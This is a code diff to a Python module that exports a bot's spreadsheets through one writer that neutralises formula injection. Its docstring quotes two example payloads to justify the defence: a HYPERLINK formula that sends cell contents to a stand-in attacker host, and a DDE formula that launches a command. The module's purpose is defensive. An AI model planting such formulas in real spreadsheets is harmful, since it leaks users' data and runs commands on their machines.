@@ -1,4 +1,20 @@
-"""One sheet of rows as an XLSX file: what a console table downloads as."""
+"""Every XLSX the bot writes, through one door: a cell is data, never a formula.
+
+Names, opinions and suggestions are typed by anyone. Written as they come,
+`=HYPERLINK("http://evil.example/?d="&B2,"点击查看")` as a display name would
+be a live formula in the secretary's spreadsheet, and `=cmd|' /C calc'!A0`
+an attack on their computer. Here a text that a spreadsheet would read as
+a formula (starting with =, +, -, @, a tab or a carriage return) is stored
+as a text cell and marked as typed with a leading apostrophe (`quotePrefix`),
+so Excel and WPS keep it text even when the cell is edited (the OWASP advice
+on CSV injection, kept without altering the text). Characters XML cannot
+hold are dropped rather than failing the export.
+
+    book = Book()
+    sheet = book.sheet("投票结果")
+    sheet.append(["选项", "票数"])
+    content = book.save()
+"""
 
 from __future__ import annotations
 
@@ -6,17 +22,65 @@ import io
 from collections.abc import Iterable, Sequence
 
 from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
+from openpyxl.worksheet.worksheet import Worksheet
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# Excel refuses sheet titles over 31 characters.
+MAX_TITLE = 31
+
+
+class Sheet:
+    def __init__(self, sheet: Worksheet) -> None:
+        self._sheet = sheet
+
+    def append(self, values: Iterable[object]) -> None:
+        self._sheet.append([self._cell(v) for v in values])
+
+    def freeze_header(self) -> None:
+        self._sheet.freeze_panes = "A2"
+
+    def _cell(self, value: object) -> object:
+        if not isinstance(value, str):
+            return value
+        text = ILLEGAL_CHARACTERS_RE.sub("", value)
+        if not text.startswith(FORMULA_STARTS):
+            return text
+        cell = Cell(self._sheet, value=text)
+        # Cell() took the leading "=" for a formula: it is a string, typed so.
+        cell.data_type = "s"
+        cell.quotePrefix = True
+        return cell
+
+
+class Book:
+    def __init__(self) -> None:
+        self._book = Workbook()
+        self._fresh = True
+
+    def sheet(self, title: str) -> Sheet:
+        """A new sheet (the first one the workbook starts with, renamed)."""
+        if self._fresh:
+            self._fresh = False
+            sheet = self._book.active
+            assert isinstance(sheet, Worksheet)
+            sheet.title = title[:MAX_TITLE]
+        else:
+            sheet = self._book.create_sheet(title[:MAX_TITLE])
+        return Sheet(sheet)
+
+    def save(self) -> bytes:
+        out = io.BytesIO()
+        self._book.save(out)
+        return out.getvalue()
 
 
 def table_xlsx(title: str, header: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
-    wb = Workbook()
-    sheet = wb.active
-    # Excel refuses sheet titles over 31 characters.
-    sheet.title = title[:31]
-    sheet.append(list(header))
+    """One sheet of rows: what a console table downloads as."""
+    book = Book()
+    sheet = book.sheet(title)
+    sheet.append(header)
     for row in rows:
-        sheet.append(list(row))
-    sheet.freeze_panes = "A2"
-    out = io.BytesIO()
-    wb.save(out)
-    return out.getvalue()
+        sheet.append(row)
+    sheet.freeze_header()
+    return book.save()
